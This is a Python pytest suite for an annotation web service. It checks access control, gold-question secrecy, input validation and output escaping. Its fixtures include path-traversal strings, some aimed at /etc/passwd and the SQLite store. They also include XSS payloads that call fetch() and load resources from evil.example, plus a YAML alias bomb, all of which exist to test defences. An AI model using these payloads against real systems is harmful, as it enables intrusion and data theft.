"""What a hostile annotator, a hostile file or a stranger may try."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import re
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from hypothesis import given, settings
from hypothesis import strategies as st
from labelled import PASSWORD, FastHasher, answer, person, project, service, submit
from sqlalchemy import select, update
from sqlalchemy.exc import OperationalError
from starlette.testclient import TestClient

from prefdata.cards import load_card
from prefdata.dataset import Dataset
from prefdata.engines import BaseEngine, EngineConfig, Reply, Request, RequestCache
from prefdata.errors import PipelineError, PrefdataError
from prefdata.schema import message, prompt, response
from prefdata.ui.accounts.people import RANKS, People, Person
from prefdata.ui.accounts.sessions import _address
from prefdata.ui.answers.checks import AnswerError, checked, turned
from prefdata.ui.answers.labels import GoneError
from prefdata.ui.arena.arena import Arena
from prefdata.ui.rendering import markup
from prefdata.ui.service import Service
from prefdata.ui.store import Store
from prefdata.ui.store.tables import labels, work
from prefdata.ui.web.app import create_app
from prefdata.ui.web.serving import options
from prefdata.ui.work import management
from prefdata.ui.work.gold import is_right
from prefdata.ui.work.project import PROTOCOLS, project_of

CHROMIUM = "/usr/bin/chromium"
OURS = {"X-Prefdata": "1"}


def questions(folder: Path, count: int) -> str:
    """A file of gold questions whose first response, `right N`, is better."""
    rows = [{"prompt": f"gold {n}", "responses": [f"right {n}", f"wrong {n}"], "gold": "a"} for n in range(count)]
    path = folder / "gold.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return str(path)


def is_gold(task: dict[str, Any]) -> bool:
    return bool(task["prompt"]["turns"][0]["plain"].startswith("gold"))


def client_of(made: Service, who: Person) -> TestClient:
    app = create_app(made, mount=False)
    client = TestClient(app, follow_redirects=False, raise_server_exceptions=False)
    client.post("/login", data={"login": who.login, "password": PASSWORD}, headers=OURS)
    return client


def body(shown: dict[str, Any], key: str, **more: Any) -> dict[str, Any]:
    said = {"task": shown["id"], "key": key, "answer": answer(shown), "seconds": 1, "guideline": shown["guideline"]}
    return {**said, **more}


# Gold questions: nobody gets past them, nobody can tell them


@pytest.fixture
def round_of_three(tmp_path: Path) -> tuple[Service, Person, int]:
    made = service(tmp_path / "data", prompts=3)
    who = person(made)
    fields = {"gold": questions(tmp_path, 3), "qualify": 3, "pass_mark": 1, "gold_share": 0}
    return made, who, project(made, who, **fields)


@pytest.mark.parametrize("how", ["skip", "ask"])
def test_leaving_the_test_questions_out_lets_nobody_in(round_of_three: Any, how: str) -> None:
    made, who, at = round_of_three
    for n in range(3):
        task = made.next(who, at)["task"]
        assert is_gold(task)
        if how == "skip":
            made.labels.skip(who, task["id"], f"k{n}", "no idea", 1)
        else:
            made.labels.ask(who, task["id"], "what is this?")
    turn = made.next(who, at)
    assert turn["state"] != "task" or is_gold(turn["task"])


def test_an_answer_after_a_skip_counts_in_the_test_round(round_of_three: Any) -> None:
    made, who, at = round_of_three
    for n in range(3):
        task = made.next(who, at)["task"]
        made.labels.skip(who, task["id"], f"s{n}", "no idea", 1)
        first_is_right = task["targets"][0]["plain"].startswith("right")
        submit(made, who, task, f"k{n}", {"choice": 1 if first_is_right else -1})  # all of them wrong
    assert made.next(who, at)["state"] == "unqualified"


@pytest.fixture
def mixed(tmp_path: Path) -> tuple[Service, Person, int]:
    """Gold questions among the others."""
    made = service(tmp_path / "data", prompts=20)
    who = person(made)
    return made, who, project(made, who, gold=questions(tmp_path, 10), gold_share=0.5)


def walked(made: Service, who: Person, at: int) -> Iterator[dict[str, Any]]:
    """All tasks, each answered when the next one is asked for."""
    while (turn := made.next(who, at))["state"] == "task":
        yield turn["task"]
        submit(made, who, turn["task"], f"k{turn['task']['id']}", {"choice": 1})


def test_gold_questions_have_no_numbers_of_their_own(mixed: Any) -> None:
    seen = list(walked(*mixed))
    gold = [task["id"] for task in seen if is_gold(task)]
    plain = [task["id"] for task in seen if not is_gold(task)]
    assert gold and plain and not (min(gold) > max(plain) or max(gold) < min(plain))


def test_progress_does_not_tell_which_task_was_gold(mixed: Any) -> None:
    assert [task["progress"]["done"] for task in walked(*mixed)] == list(range(30))


def test_a_flagged_gold_question_goes_away_like_any_other(mixed: Any) -> None:
    made, who, at = mixed
    task = next(task for task in walked(made, who, at) if is_gold(task))
    made.labels.flag(who, task["id"], "this is bad")
    assert made.next(who, at)["task"]["id"] != task["id"]


def test_a_gold_question_that_was_found_to_be_bad_is_asked_no_more(mixed: Any) -> None:
    made, who, at = mixed
    lead = person(made, "reviewer")
    task = next(task for task in walked(made, who, at) if is_gold(task))
    made.labels.flag(who, task["id"], "this is bad")
    made.labels.decide_flag(lead, made.labels.flags(lead)[0].flag_id, bad=True)
    assert task["id"] not in [one["id"] for one in walked(made, who, at)]


def test_marking_everything_is_no_right_answer_to_a_gold_question_on_spans() -> None:
    held = project_of({"name": "p", "protocol": "spans", "span_labels": ["bad", "good"]})
    everything = {"spans": [{"target": 0, "start": 0, "end": 500, "label": one} for one in ("bad", "good")]}
    assert not is_right(everything, {"spans": [{"target": 0, "start": 5, "end": 9, "label": "bad"}]}, held)
    assert not is_right(everything, {"spans": []}, held)


# Blindness


def test_ones_own_list_says_what_was_seen_and_not_which_model_it_was(tmp_path: Path) -> None:
    """Targets stand in the order of their models' names: told in that order, A and B are names of models."""
    made = service(tmp_path / "data", prompts=12)
    who = person(made)
    at = project(made, who)
    for _ in walked(made, who, at):  # says each time that what is shown second is better
        pass
    assert len({one["summary"] for one in made.mine(who, at, 50)["labels"]}) == 1


def test_projects_for_others_are_nobodys_business(tmp_path: Path) -> None:
    made = service(tmp_path / "data")
    member, stranger, lead = person(made, groups=["client"]), person(made), person(made, "reviewer")
    at = project(made, member, name="secret-client", groups=["client"])
    made.labels.ask(member, made.next(member, at)["task"]["id"], "may the merger be named?")
    made.labels.answer(lead, made.labels.questions(lead, at)[0].question_id, "yes")
    client = client_of(made, stranger)
    for path in (f"/api/questions?project={at}", "/api/next?project=999", "/api/undo", f"/api/mine?project={at}"):
        said = client.get(path).text
        assert "merger" not in said and "secret-client" not in said, path


def test_what_annotators_can_reach_names_no_model_no_gold_and_nobody_else(tmp_path: Path) -> None:
    made = service(tmp_path / "data", prompts=4)
    who, other, lead = person(made), person(made, groups=["inner-circle"]), person(made, "reviewer")
    at = project(made, who, other, gold=questions(tmp_path, 3), gold_share=0.5, overlap=2, rationale="optional")
    for one in (other, who):
        for task in list(walked(made, one, at))[:3]:
            said = {"choice": -1, "rationale": f"words of {one.pseudonym}"}
            submit(made, one, task, f"r{task['id']}", said)
    client = client_of(made, who)
    secrets = [other.pseudonym, str(other.login), lead.pseudonym, "model-0", "model-1", '"gold"', "inner-circle"]
    secrets += [str(made.dataset.path), *made.dataset.view()["responses"].collect()["response_id"].to_list()]
    paths = ["/api/me", "/api/frame", "/label/config", f"/api/mine?project={at}", f"/api/questions?project={at}"]
    paths += [f"/api/next?project={at}", *(f"/api/task?id={n}" for n in range(12))]
    for path in paths:
        said = client.get(path).text
        assert not [one for one in secrets if one in said], path
    undone = client.post("/api/undo", json={"project": at}, headers=OURS).text
    assert "words of" in undone and not [one for one in secrets if one in undone]


# Who may still say something


def test_a_paused_person_changes_nothing(tmp_path: Path) -> None:
    made = service(tmp_path / "data")
    who = person(made)
    at = project(made, who)
    client = client_of(made, who)
    done = made.next(who, at)["task"]
    submit(made, who, done, "k1", {"choice": 1})
    held = made.next(who, at)["task"]
    management.pause_person(made, None, who.person_id)
    assert client.get(f"/api/next?project={at}").json()["state"] == "paused"
    statuses = [
        client.post("/api/submit", json=body(done, "k2"), headers=OURS).status_code,  # another answer to an old task
        client.post("/api/submit", json=body(held, "k3"), headers=OURS).status_code,  # whose lease was taken back
        client.post("/api/flag", json={"task": held["id"], "reason": "bad"}, headers=OURS).status_code,
    ]
    assert all(400 <= status < 500 for status in statuses), statuses


def test_a_closed_project_takes_no_corrections(tmp_path: Path) -> None:
    made = service(tmp_path / "data")
    who = person(made)
    at = project(made, who)
    task = made.next(who, at)["task"]
    submit(made, who, task, "k1", {"choice": 1})
    made.projects.set_state(None, at, "closed")
    with pytest.raises(PrefdataError):
        submit(made, who, task, "k2", {"choice": -1})


def test_skipped_tasks_do_not_lead_around_the_quota(tmp_path: Path) -> None:
    made = service(tmp_path / "data", prompts=4)
    who = person(made)
    at = project(made, who, quota=1)
    seen = []
    for n in range(4):
        seen.append(made.next(who, at)["task"])
        made.labels.skip(who, seen[-1]["id"], f"s{n}", "later", 0)
    submit(made, who, seen[0], "k0")
    with pytest.raises(PrefdataError):
        submit(made, who, seen[1], "k1")


def test_who_has_left_the_group_changes_nothing(tmp_path: Path) -> None:
    made = service(tmp_path / "data")
    who = person(made, groups=["a"])
    at = project(made, who, groups=["a"])
    task = made.next(who, at)["task"]
    submit(made, who, task, "k1", {"choice": 1})
    now = made.people.set(who.person_id, groups=[])
    assert made.next(now, at)["state"] == "empty"
    with pytest.raises(PrefdataError):
        submit(made, now, task, "k2", {"choice": -1})


def test_a_key_of_another_task_acknowledges_nothing(tmp_path: Path) -> None:
    """What is said to be stored is stored: a key that is known is known of its own task only."""
    made = service(tmp_path / "data")
    who = person(made)
    at = project(made, who)
    submit(made, who, made.next(who, at)["task"], "k")
    task = made.next(who, at)["task"]
    with contextlib.suppress(PrefdataError):
        submit(made, who, task, "k")
        with made.store.read() as db:
            assert db.execute(select(labels.c.label_id).where(labels.c.task_id == task["id"])).first() is not None


def test_a_skip_does_not_bring_back_what_was_requeued_for_others(tmp_path: Path) -> None:
    made = service(tmp_path / "data", prompts=1)
    who = person(made)
    at = project(made, who)
    task = made.next(who, at)["task"]
    submit(made, who, task, "k1", {"choice": 1})
    management.requeue(made, None, at, person_id=who.person_id)
    with pytest.raises(GoneError):
        submit(made, who, task, "k2", {"choice": 1})
    with pytest.raises(PrefdataError):
        made.labels.skip(who, task["id"], "s1", "no idea", 0)
        submit(made, who, task, "k3", {"choice": 1})


def test_nobody_answers_what_they_were_never_given(tmp_path: Path) -> None:
    made = service(tmp_path / "data", prompts=4)
    who, other = person(made), person(made)
    at = project(made, who, other)
    theirs = made.next(other, at)["task"]
    client = client_of(made, who)
    said = body(theirs, "k1")
    for route in ("submit", "skip", "ask", "flag"):
        sent = {**said, "reason": "x", "text": "x"}
        assert client.post(f"/api/{route}", json=sent, headers=OURS).status_code == 409, route
    assert client.post("/api/alive", json=said, headers=OURS).json() == {"ok": False}
    client.post("/api/release", json=said, headers=OURS)
    with made.store.read() as db:
        assert db.execute(select(work.c.state).where(work.c.person_id == other.person_id)).scalar() == "leased"
    assert client.get(f"/api/task?id={theirs['id']}").status_code == 409
    assert client.get(f"/media/task/{theirs['id']}/0/0").status_code == 404
    # The same key by two people is two labels.
    mine = made.next(who, at)["task"]
    assert client.post("/api/submit", json=body(mine, "same"), headers=OURS).json()["revision"] == 1
    assert submit(made, other, theirs, "same")["revision"] == 1


def test_one_person_holds_one_task_of_a_project_at_a_time(tmp_path: Path) -> None:
    made = service(tmp_path / "data", prompts=9)
    who = person(made)
    at = project(made, who)
    seen: set[int] = set()

    def ask() -> None:
        seen.update(made.next(who, at)["task"]["id"] for _ in range(4))

    threads = [threading.Thread(target=ask) for _ in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(seen) == 1


# One person against all others


def test_true_and_false_are_no_places_in_a_text() -> None:
    held = project_of({"name": "p", "protocol": "spans"})
    said = {"spans": [{"target": 0, "start": False, "end": True, "label": "wrong"}]}
    with pytest.raises(AnswerError):
        checked(said, held, load_card(held.card), ["a text"], 1)


def test_a_label_that_cannot_be_committed_does_not_hold_up_the_others(tmp_path: Path) -> None:
    made = service(tmp_path / "data", prompts=2)
    one, two = person(made), person(made)
    at = project(made, one, two, protocol="spans")
    for who in (one, two):
        submit(made, who, made.next(who, at)["task"], "k")
    bad = {"spans": [{"target": 0, "start": False, "end": True, "label": "wrong"}]}
    with made.store.write() as db:
        db.execute(update(labels).where(labels.c.person_id == one.person_id).values(answer=bad))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(made.pull, "failed", "")
        thread = made.pull.start(0.01, lambda said: None)
        for _ in range(40):
            if made.pull.waiting() <= 1:
                break
            thread.join(0.02)
        made.pull.stop()
        thread.join()
    assert f"human:{two.pseudonym}" in made.dataset.view()["annotations"].collect()["annotator"].to_list()


@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
def test_pulling_goes_on_after_the_store_was_busy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = service(tmp_path / "data")
    failed = threading.Event()

    def busy() -> None:
        failed.set()
        raise OperationalError("SELECT 1", {}, Exception("database is locked"))

    monkeypatch.setattr(made.pull, "_batch", busy)
    thread = made.pull.start(0.01, lambda said: None)
    assert failed.wait(5)
    thread.join(0.2)
    alive = thread.is_alive()
    made.pull.stop()
    assert alive


def test_one_person_does_not_fill_the_disk_with_corrections(tmp_path: Path) -> None:
    """Each may be 100,000 characters long, is kept for good, and is durable before it is acknowledged."""
    made = service(tmp_path / "data", prompts=1)
    who = person(made)
    task = made.next(who, project(made, who, rationale="optional"))["task"]
    with pytest.raises(PrefdataError):
        for n in range(200):
            submit(made, who, task, f"k{n}", {"choice": 1, "rationale": "r" * 50_000})


def test_one_person_does_not_take_all_prompts_away(tmp_path: Path) -> None:
    made = service(tmp_path / "data", prompts=60)
    who, other = person(made), person(made)
    at = project(made, who, other)
    with pytest.raises(PrefdataError):
        while (turn := made.next(who, at))["state"] == "task":
            made.labels.flag(who, turn["task"]["id"], "bad")
    assert made.next(other, at)["state"] == "task"


def test_a_report_that_was_refused_is_not_made_again_by_the_same_person(tmp_path: Path) -> None:
    made = service(tmp_path / "data", prompts=1)
    who, other, lead = person(made), person(made), person(made, "reviewer")
    at = project(made, who, other)
    task = made.next(who, at)["task"]
    made.labels.flag(who, task["id"], "bad")
    made.labels.decide_flag(lead, made.labels.flags(lead)[0].flag_id, bad=False)
    with pytest.raises(PrefdataError):
        made.labels.flag(who, task["id"], "bad, I say")
    assert made.next(other, at)["state"] == "task"


def test_nobody_drowns_the_questions_of_others(tmp_path: Path) -> None:
    """500 questions of 2,000 brackets take the server most of a minute to lay out, at each look at the list."""
    made = service(tmp_path / "data")
    who, other, lead = person(made), person(made), person(made, "reviewer")
    at = project(made, who, other)
    made.labels.ask(other, made.next(other, at)["task"]["id"], "a real question")
    task = made.next(who, at)["task"]
    with pytest.raises(PrefdataError):
        for _ in range(500):
            made.labels.ask(who, task["id"], "[" * 2000)
    assert "a real question" in [one.text for one in made.labels.questions(lead, at)]


def test_a_second_report_is_acknowledged_and_is_none(tmp_path: Path) -> None:
    made = service(tmp_path / "data", prompts=1)
    who, lead = person(made), person(made, "reviewer")
    task = made.next(who, project(made, who))["task"]
    for _ in range(3):
        made.labels.flag(who, task["id"], "bad")
    assert len(made.labels.flags(lead)) == 1


def test_reviewers_see_first_who_has_waited_longest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = service(tmp_path / "data", prompts=1)
    who, lead = person(made), person(made, "reviewer")
    at = project(made, who)
    task = made.next(who, at)["task"]
    for n in range(6):
        made.labels.ask(who, task["id"], f"question {n}")
    for one in made.labels.questions(lead, at)[:2]:
        made.labels.answer(lead, one.question_id, "yes")
    monkeypatch.setattr("prefdata.ui.answers.labels._MOST_SEEN", 5)
    monkeypatch.setattr("prefdata.ui.answers.labels._NEWEST", 3)
    assert [one.text[-1] for one in made.labels.questions(lead, at)] == list("53210")  # 5 and 4 are answered
    assert [one.text[-1] for one in made.labels.questions(who, at)] == list("543")


def test_a_costly_text_is_laid_out_once(monkeypatch: pytest.MonkeyPatch) -> None:
    text = f"{'[' * 2_000} {os.urandom(8).hex()}"
    first = markup.markdown(text)
    monkeypatch.setattr(markup, "_laid", lambda *given: pytest.fail("laid out again"))
    assert markup.markdown(text) == first
    assert markup.turns([{"role": "user", "content": text}])[0]["html"] == first


# What is sent may be anything


@pytest.fixture(scope="module")
def asked(tmp_path_factory: pytest.TempPathFactory) -> tuple[TestClient, dict[str, Any]]:
    made = service(tmp_path_factory.mktemp("asked") / "data", prompts=2)
    who = person(made)
    task = made.next(who, project(made, who))["task"]
    return client_of(made, who), task


@pytest.mark.parametrize("key", [" a", "a\n", "b\x00", "\ud800", "c\udfff"])
def test_any_key_is_taken_once(asked: Any, key: str) -> None:
    client, task = asked
    answers = [client.post("/api/submit", content=json.dumps(body(task, key)), headers=OURS) for _ in range(2)]
    assert [one.status_code for one in answers] in ([200, 200], [422, 422])
    assert answers[0].text == answers[1].text


def test_odd_texts_and_numbers_are_refused_in_a_sentence(asked: Any) -> None:
    client, task = asked
    sent = [
        client.post("/api/submit", content=json.dumps(body(task, "k", guideline="\ud800")), headers=OURS),
        client.post("/api/acknowledge", content='{"project": 1, "label": "\\ud800"}', headers=OURS),
        client.get(f"/media/task/{10**30}/0/0"),
        client.get(f"/media/task/{10**30}/prompt/0"),
        client.get(f"/media/task/{'9' * 5_000}/0/0"),
        client.get(f"/media/task/{task['id']}/0/{'9' * 5_000}"),
        client.post("/api/skip", content=json.dumps(body(task, "k", reason="\x00")), headers=OURS),
        client.post("/api/skip", content=json.dumps(body(task, "k", reason="\ud800")), headers=OURS),
    ]
    assert [one.status_code for one in sent] == [422, 422, 404, 404, 404, 404, 422, 422]


def test_a_request_that_breaks_off_is_no_mistake_of_the_server(asked: Any) -> None:
    client, _ = asked
    for path in ("/login", "/invite/x", "/api/submit"):
        cookie = "; ".join(f"{name}={value}" for name, value in client.cookies.items())
        parts = [{"type": "http.request", "body": b"login=", "more_body": True}, {"type": "http.disconnect"}]
        assert raw(client.app, "POST", path, cookie, parts) == 408


def test_a_key_names_one_answer_to_one_task(tmp_path: Path) -> None:
    made = service(tmp_path / "data")
    who = person(made)
    at = project(made, who)
    client = client_of(made, who)
    sent = [client.post("/api/submit", json=body(made.next(who, at)["task"], "k"), headers=OURS) for _ in range(2)]
    assert [one.status_code for one in sent] == [200, 422] and "another task" in sent[1].json()["say"]
    skip = {**body(made.next(who, at)["task"], "k"), "reason": "unclear"}
    assert client.post("/api/skip", json=skip, headers=OURS).status_code == 422


def test_every_route_that_names_a_project_knows_ones_own_only(tmp_path: Path) -> None:
    made = service(tmp_path / "data")
    member, stranger, lead = person(made, groups=["client"]), person(made), person(made, "reviewer")
    at = project(made, member, name="secret-client", groups=["client"])
    sent = {"project": at, "label": made.projects.get(at).guideline}
    for who, status in ((stranger, 404), (member, 200), (lead, 200)):
        client = client_of(made, who)
        found = [client.get(f"/api/{route}?project={at}") for route in ("next", "mine", "questions")]
        found += [client.post(f"/api/{route}", json=sent, headers=OURS) for route in ("undo", "acknowledge")]
        assert [one.status_code for one in found] == [status] * 5
        nowhere = client.get("/api/next?project=999")
        assert nowhere.status_code == 404 and nowhere.json() == {"say": "there is no such project"}
        assert who is not stranger or {one.text for one in found} == {nowhere.text}


def test_hostile_bodies_are_refused_in_a_sentence(asked: Any) -> None:
    client, task = asked
    bodies = [b"[" * 500_000, b'{"a":' * 100_000, b"\xff\xfe", b"", b"null", b"[]", b'{"task":' + b"9" * 10_000 + b"}"]
    bodies += [json.dumps(body(task, "k", seconds=odd)).encode() for odd in (1e308, -1, True, "1", None, [1])]
    bodies += [json.dumps(body(task, "k", seconds=float(odd))).encode() for odd in ("nan", "inf")]
    bodies += [json.dumps(body(task, "k", task=odd)).encode() for odd in (-1, 2**31, 10**40, True, "x", None, {}, 1e99)]
    bodies.append(b'{"task": 1, "key": "' + b"x" * 2_100_000 + b'"}')
    for route in ("submit", "skip", "ask", "flag", "alive", "release", "undo", "acknowledge"):
        for sent in bodies:
            if route in ("ask", "flag", "release") and b'"answer"' in sent:
                continue  # whole requests of that kind
            found = client.post(f"/api/{route}", content=sent, headers=OURS)
            assert found.status_code < 500 and ("say" in found.json() or "ok" in found.json()), (route, sent[:50])


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters(), max_size=5),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
    max_leaves=8,
)
SPAN = st.fixed_dictionaries(
    {"target": JSON | st.integers(-1, 3), "start": JSON | st.integers(0, 6), "end": JSON | st.integers(0, 9)},
    optional={"label": JSON | st.sampled_from(["wrong", "good"])},
)
PLACES = st.lists(st.integers(0, 3) | JSON, max_size=3)
SENT = st.fixed_dictionaries(
    {},
    optional={
        "choice": st.integers(-4, 4) | JSON,
        "ranks": PLACES | JSON,
        "scores": st.dictionaries(st.sampled_from(["overall", "helpfulness"]), PLACES | JSON) | JSON,
        "best": PLACES | JSON,
        "thumbs": PLACES | JSON,
        "step": st.integers(-1, 3) | JSON,
        "spans": st.lists(SPAN, max_size=3) | JSON,
        "target": st.integers(-1, 3) | JSON,
        "text": JSON,
        "rationale": JSON,
        "confidence": JSON,
        "reasons": JSON | st.lists(st.just("style")),
    },
)


@pytest.mark.parametrize("protocol", PROTOCOLS)
@settings(max_examples=60, deadline=None)
@given(sent=SENT)
def test_an_answer_is_taken_or_refused_and_nothing_else(protocol: str, sent: dict[str, Any]) -> None:
    more = {"rationale": "optional", "confidence": True, "reasons": ["style"], "none": True}
    held = project_of({"name": "p", "protocol": protocol, **more})
    try:
        made = checked(sent, held, load_card(held.card), ["one text", "another"], 2)
    except AnswerError:
        return
    json.dumps(made, allow_nan=False).encode()
    assert "\x00" not in json.dumps(made, ensure_ascii=False)
    assert turned(turned(made, [1, 0]), [1, 0], back=True) == made


def test_ranks_of_several_kinds_are_refused_in_a_sentence() -> None:
    held = project_of({"name": "p", "protocol": "rank"})
    for ranks in ([1, "2"], [False, []], [{}, 1]):
        with pytest.raises(AnswerError):
            checked({"ranks": ranks}, held, load_card(held.card), ["one text", "another"], 1)


def test_a_card_whose_merges_double_is_refused(tmp_path: Path) -> None:
    """Each further line doubles the time: 30 of them, 1 kB, hold the server for half an hour."""
    lines = ["a0: &a0 {x: 1}", *(f"a{n}: &a{n} {{<<: [*a{n - 1}, *a{n - 1}]}}" for n in range(1, 14))]
    (tmp_path / "card.yaml").write_text("\n".join(lines), encoding="utf-8")
    with pytest.raises(PipelineError, match="alias"):
        load_card(str(tmp_path / "card.yaml"))


# Signing in, and the log


def test_ipv4_addresses_that_a_proxy_writes_as_ipv6_are_counted_apart() -> None:
    """nginx at [::]:443 says ::ffff:1.2.3.4: all of these in one /64 would lock each other out."""
    assert _address("::ffff:1.2.3.4") != _address("::ffff:9.9.9.9")
    assert _address("::ffff:1.2.3.4") == _address("1.2.3.4")


def test_the_store_is_for_the_eyes_of_its_owner(tmp_path: Path) -> None:
    """It holds sign-in names, password hashes and gold answers; other users of the machine have no business there."""
    service(tmp_path / "data")
    assert (tmp_path / "data" / "labels.sqlite").stat().st_mode & 0o077 == 0


def test_mistakes_in_the_store_put_nobodys_words_into_the_log(tmp_path: Path) -> None:
    assert service(tmp_path / "data").store.engine.hide_parameters


def raw(app: Any, method: str, path: str, cookie: str, parts: list[dict[str, Any]] | None = None) -> int:
    """The status of a request whose path nobody tidies up on the way, and whose body comes in these parts."""
    found: list[int] = []
    coming = iter(parts or ())

    async def receive() -> dict[str, Any]:
        return next(coming, {"type": "http.request", "body": b"{}", "more_body": False})

    async def send(message: Any) -> None:
        if message["type"] == "http.response.start":
            found.append(message["status"])

    named = [("host", "here"), ("cookie", cookie), ("x-prefdata", "1"), ("content-type", "application/json")]
    scope = {
        **{"type": "http", "method": method, "path": path, "raw_path": path.encode(), "query_string": b""},
        **{"scheme": "http", "http_version": "1.1", "client": ("10.0.0.1", 1), "server": ("here", 80)},
        **{"headers": [(name.encode(), value.encode()) for name, value in named], "root_path": ""},
    }
    asyncio.run(app(scope, receive, send))
    return found[0]


ODD = """
//admin/config /admin%2fconfig /label/../admin/config /label/..%2fadmin/config /ADMIN/config /admin./config
/admin;/config /./admin/config /label//admin/config /label/gradio_api/../../admin/config /admin\x00/config
/admin\\config /\\admin/config /label/gradio_api/proxy=http://127.0.0.1/ /label/gradio_api/file=/etc/passwd
/label/gradio_api/component_server /label/gradio_api/upload /label/gradio_api/monitoring/x /label/custom_component/a/b/c
/static/../app.py /static/..%2fapp.py /media/../labels.sqlite /arena/gradio_api/file=labels.sqlite
/admin/ /review/config
/explore/gradio_api/info /admin/gradio_api/queue/data /admin/gradio_api/queue/join
"""


def test_no_spelling_and_no_method_leads_an_annotator_upwards(tmp_path: Path) -> None:
    made = service(tmp_path / "data")
    client = client_of(made, person(made))
    cookie = "; ".join(f"{name}={value}" for name, value in client.cookies.items())
    for method in ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "FOO"):
        for path in ODD.strip("\n").replace("\n", " ").split(" "):
            assert raw(client.app, method, path, cookie) in (403, 404, 405), (method, path)
            assert raw(client.app, method, path, "") in (303, 401, 403, 404, 405), (method, path)


# Everything that a person or a file can write, in a browser

MARKS = (
    "<img src=x onerror=\"window.ran=1;fetch('http://evil.example/f')\"><script>window.ran=2</script><svg onload=ran=3>"
    " [a](javascript:window.ran=4) ![i](http://evil.example/i.png) ${window.ran=5} {{constructor}} `${window.ran=6}` "
    "\" onmouseover=\"window.ran=7\" ' onfocus='ran=8' autofocus </script><script>ran=9</script> "
    '<style>@import "http://evil.example/c.css"</style> $\\href{javascript:ran=10}{x}$ <iframe src="//evil.example">'
)
SHORT = "<img src=x onerror=ran=1>"


class Writes(BaseEngine):
    """An engine that answers with marks, after it was allowed to."""

    capabilities = frozenset({"generate"})
    free = True

    def __init__(self, model: str) -> None:
        super().__init__(model, EngineConfig())
        self.model = model

    def identify(self) -> str:
        return f"writes:{self.model}"

    async def ask(self, request: Request) -> Reply:
        return Reply(text=MARKS, prompt_tokens=1, completion_tokens=1)


class Hostile:
    """An application of which every field is hostile, at an address."""

    def __init__(self, folder: Path) -> None:
        asked, said = [], []
        for n in range(3):
            turns = [message("system", MARKS), message("user", f"{MARKS} {n}", name=SHORT)]
            media = [{"uri": MARKS, "kind": "image", "region": MARKS}]
            passages = [{"doc_id": MARKS, "label": MARKS, "text": MARKS}]
            asked.append(prompt(turns, source=MARKS, tags=[MARKS], context=passages, media=media))
            said += [response(asked[-1], model=f"{MARKS} {k}", text=f"{MARKS} {n}/{k}", media=media) for k in range(2)]
        rows = Dataset.create(folder / "data")
        rows.add_import({"prompts": asked, "responses": said}, source=MARKS, fields={MARKS: MARKS})
        self.service = Service(rows, Store.open(rows.path))
        self.service.people = People(self.service.store, hasher=FastHasher())
        engines = {name: Writes(name + SHORT) for name in ("one", "two")}
        self.service.arena = Arena(self.service, engines, cache=RequestCache(folder / "cache"))
        self.people = {role: person(self.service, role, groups=[SHORT], skills=[SHORT]) for role in RANKS}
        self.other = person(self.service)
        scale = {"min": 1, "max": 2, "anchors": [MARKS, MARKS]}
        card = {"name": "card", "instructions": MARKS, "aspects": [{"name": "overall", "text": MARKS, "scale": scale}]}
        (folder / "card.yaml").write_text(json.dumps(card))
        self.fields = {
            "card": str(folder / "card.yaml"),
            "guidelines": f"{MARKS}\n",
            "question": MARKS,
            "overlap": 2,
            "order": "fixed",
        }
        self.fields |= {"reasons": (MARKS,), "skip_reasons": (MARKS,), "rationale": "optional", "warning": MARKS}
        readers = (*self.people.values(), self.other)
        self.at = project(self.service, *readers, **self.fields)
        self._speak()
        self.app = create_app(self.service)
        self._serve()

    def _speak(self) -> None:
        made = self.service
        for who, choice in ((self.other, 3), (self.people["reviewer"], -3)):
            task = made.next(who, self.at)["task"]
            submit(made, who, task, "k", {"choice": choice, "rationale": MARKS, "reasons": [MARKS]})
            made.labels.skip(who, made.next(who, self.at)["task"]["id"], "s", MARKS, 1)
            made.labels.ask(who, made.next(who, self.at)["task"]["id"], MARKS)
        lead = self.people["admin"]
        made.labels.answer(lead, made.labels.questions(lead, self.at)[0].question_id, MARKS)
        task = made.next(lead, self.at)["task"]
        made.labels.flag(lead, task["id"], MARKS)
        made.pull()

    def _serve(self) -> None:
        with socket.socket() as one:
            one.bind(("127.0.0.1", 0))
            port = one.getsockname()[1]
        self.address = f"http://127.0.0.1:{port}"
        self.server = uvicorn.Server(uvicorn.Config(self.app, **options("127.0.0.1", port)))
        self.thread = threading.Thread(target=self.server.run, daemon=True)
        self.thread.start()
        while not self.server.started:
            self.thread.join(0.05)

    def close(self) -> None:
        self.server.should_exit = self.server.force_exit = True
        self.thread.join(20)
        self.service.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    pytest.importorskip("gradio")
    with pytest.MonkeyPatch.context() as patch:
        for name in ("GRADIO_TEMP_DIR", "GRADIO_EXAMPLES_CACHE", "GRADIO_ANALYTICS_ENABLED"):
            patch.setenv(name, os.environ.get(name, ""))  # put back afterwards
        made = Hostile(tmp_path_factory.mktemp("hostile"))
        yield made
        made.close()


def test_an_event_that_is_not_there_is_no_mistake_of_the_server(hostile: Hostile) -> None:
    """Each is a traceback in the log, of a hundred lines, for whoever wants to fill the disk."""
    client = TestClient(hostile.app, raise_server_exceptions=False)
    client.post("/login", data={"login": hostile.people["annotator"].login, "password": PASSWORD}, headers=OURS)
    for page in ("/label", "/arena"):
        for event in (-1, 99, True, "x", [], {}, None):
            sent = {"data": [], "fn_index": event, "session_hash": "x"}
            for call in ("queue/join", "run/none", "api/none", "call/none", "call/v2/none"):
                found = client.post(f"{page}/gradio_api/{call}", json=sent, headers=OURS)
                assert found.status_code < 500, (page, call, event)


def test_an_arena_is_closed_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = service(tmp_path / "data")
    arena = Arena(made, {name: Writes(name) for name in ("one", "two")}, cache=RequestCache(tmp_path / "cache"))
    arena.start(person(made), "hello")
